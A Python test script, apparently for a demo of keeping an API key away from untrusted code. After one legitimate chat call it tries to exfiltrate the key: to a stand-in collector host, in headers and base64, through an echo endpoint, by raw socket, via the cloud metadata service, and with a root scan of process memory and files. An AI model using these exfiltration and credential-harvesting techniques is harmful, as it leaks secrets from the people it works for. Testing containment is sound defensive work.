"""The program nobody reviewed. It does its job with an API key, then tries to take the key home.

Prints one JSON object per line: {"attempt": ..., "outcome": ...}. The demo on the host judges what came out.
"""

import base64
import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request

API = "https://api.llm.example"
KEY = os.environ["LLM_API_KEY"]


def report(attempt, outcome):
    print(json.dumps({"attempt": attempt, "outcome": outcome}), flush=True)


def call(url, headers=None, body=None):
    request = urllib.request.Request(url, data=body, headers=headers or {}, method="POST" if body else "GET")
    try:
        with urllib.request.urlopen(request, timeout=15) as answer:
            return answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return f"HTTP {error.code}: {error.read().decode(errors='replace')}"
    except Exception as error:  # whatever stopped it is the outcome
        return f"{type(error).__name__}: {error}"


def work():
    bearer = {"authorization": f"Bearer {KEY}", "content-type": "application/json"}
    question = json.dumps({"model": "demo", "messages": [{"role": "user", "content": "Say hello."}]}).encode()
    report("work", call(f"{API}/v1/chat", bearer, question))


def steal():
    report("print it", KEY)
    report("send it to a host of mine", call("https://collector.example/?k=" + KEY))
    report("send it to another allowed host", call("https://status.example/", {"x-note": KEY}))
    report("… base64 in a Basic header", call("https://status.example/", {"authorization": "Basic " + base64.b64encode(f"u:{KEY}".encode()).decode()}))
    report("have the API echo it", call(f"{API}/echo", {"authorization": f"Bearer {KEY}"}))
    report("… compressed and in hex", call(f"{API}/echo?as=gzip-hex", {"authorization": f"Bearer {KEY}"}))
    report("connect to an address, past the names", raw("192.0.2.7", 443))
    report("ask the cloud's metadata service", call("http://169.254.169.254/latest/meta-data/"))
    report("search disk and memory as root", search())


def raw(address, port):
    try:
        with socket.create_connection((address, port), timeout=10) as connection:
            connection.sendall(KEY.encode())
            answer = connection.recv(100)
            return repr(answer) if answer else "connection closed"
    except OSError as error:
        return f"{type(error).__name__}: {error}"


# What looks like a key, and what stands in for it: a search that finds neither has not searched.
SEARCH = r"""
import glob, re
wanted = re.compile(rb"(sk-demo-[0-9a-f]{32})|(caisson-secret-[\w-]+)")
keys, placeholders = set(), 0
def look(data):
    global placeholders
    for key, placeholder in wanted.findall(data):
        placeholders += placeholder != b""
        if key: keys.add(key.decode())
for pattern in ("/proc/[0-9]*/environ", "/etc/**/*", "/home/**/*", "/run/**/*", "/tmp/**/*"):
    for path in glob.glob(pattern, recursive=True):
        try: look(open(path, "rb").read(1 << 22))
        except OSError: pass
for row in open("/proc/1/maps"):
    span, mode = row.split()[:2]
    start, end = (int(x, 16) for x in span.split("-"))
    if "r" not in mode: continue
    with open("/proc/1/mem", "rb", 0) as memory:
        try:
            memory.seek(start)
            look(memory.read(min(end - start, 1 << 26)))
        except (OSError, OverflowError, ValueError): pass
print(f"placeholders: {placeholders}, keys: {', '.join(keys) or 'none'}")
"""


def search():
    done = subprocess.run(["sudo", sys.executable, "-c", SEARCH], capture_output=True, text=True, timeout=300)
    return (done.stdout or done.stderr).strip()


if __name__ == "__main__":
    work() if sys.argv[1:] == ["work"] else steal()
